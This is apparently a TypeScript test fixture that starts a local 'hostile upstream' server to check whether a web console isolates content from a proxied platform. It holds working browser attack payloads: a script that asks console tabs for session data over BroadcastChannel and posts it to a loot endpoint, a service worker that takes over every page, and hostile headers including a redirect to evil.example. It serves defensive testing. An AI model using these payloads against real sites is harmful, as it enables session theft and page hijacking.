import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';

/** What a page of a hostile host does: it runs, asks the console's tabs for their session, and registers a worker for all pages. */
const SCRIPT = `
document.title = 'ran';
const loot = (text) => fetch('/platform/loot', { method: 'POST', body: String(text) }).catch(() => {});
const ticket = 'hostile';
new BroadcastChannel('slipway.' + ticket).onmessage = (event) => loot(event.data);
const channel = new BroadcastChannel('slipway');
channel.onmessage = (event) => {
  const said = JSON.parse(event.data);
  if (said.offer === ticket) channel.postMessage(JSON.stringify({ take: ticket, tab: said.tab }));
};
channel.postMessage(JSON.stringify({ ask: ticket }));
navigator.serviceWorker?.register('/platform/worker.js', { scope: '/' }).catch(() => {});
// Longer than a tab takes to answer.
setTimeout(() => loot('all that came'), 2000);
`;

/** A worker that answers every page itself. */
const WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.mode === 'navigate') event.respondWith(new Response('<title>owned</title>owned', { headers: { 'content-type': 'text/html' } }));
});
`;

const PAGES: Record<string, [string, string]> = {
  '/evil.html': ['text/html', '<!doctype html><title>quiet</title><script src="/platform/evil.js"></script><script>document.title = "ran"</script>'],
  '/evil.svg': ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><title>quiet</title><script href="/platform/evil.js"/></svg>'],
  '/evil.js': ['text/javascript', SCRIPT],
  '/worker.js': ['text/javascript', WORKER],
  '/accelerated': ['text/plain', 'the upstream’s own text'],
};

/** The headers by which an upstream would change what the browser does with the console. */
const HEADERS = {
  'service-worker-allowed': '/',
  'set-cookie': 'hostile=1',
  'content-security-policy': "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:",
  'clear-site-data': '"storage"',
  'strict-transport-security': 'max-age=31536000; includeSubDomains',
  refresh: '0; url=https://evil.example/',
  link: '</platform/evil.js>; rel=preload; as=script',
  'access-control-allow-origin': '*',
  'x-accel-redirect': '/config.json',
  'x-accel-expires': '3600',
};

/** A platform whose host has more than the platform: pages, pictures and scripts that attack the console beside it. */
export class HostileUpstream {
  /** What its pages sent home. */
  readonly loot: string[] = [];
  /** The paths of its own pages that were asked for. */
  readonly asked: string[] = [];
  private readonly server: Server;

  constructor(platform: string) {
    this.server = createServer(async (request, reply) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      const path = new URL(request.url ?? '/', 'http://x').pathname;
      const page = PAGES[path];
      if (page) {
        this.asked.push(path);
        reply.writeHead(200, { ...HEADERS, 'content-type': page[0] });
        return reply.end(page[1]);
      }
      // As a platform compresses where it may.
      if (path === '/data') {
        const compressed = request.headers['accept-encoding']?.includes('gzip');
        reply.writeHead(200, { 'content-type': 'application/json', 'x-ratelimit-remaining': '99', 'retry-after': '30', ...(compressed ? { 'content-encoding': 'gzip' } : {}) });
        return reply.end(compressed ? gzipSync('{"is":"data"}') : '{"is":"data"}');
      }
      if (path === '/loot') {
        this.loot.push(Buffer.concat(chunks).toString());
        return reply.end();
      }
      const { authorization } = request.headers;
      const answer = await fetch(platform + request.url, {
        method: request.method,
        headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
        ...(chunks.length > 0 ? { body: Buffer.concat(chunks) } : {}),
      });
      reply.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? 'text/plain', 'set-cookie': 'hostile=1' });
      return reply.end(Buffer.from(await answer.arrayBuffer()));
    });
  }

  /** Its address. */
  get url(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  async start(): Promise<this> {
    await new Promise<void>((ready) => { this.server.listen(0, '127.0.0.1', ready); });
    return this;
  }

  stop(): void {
    this.server.close();
    this.server.closeAllConnections();
  }
}
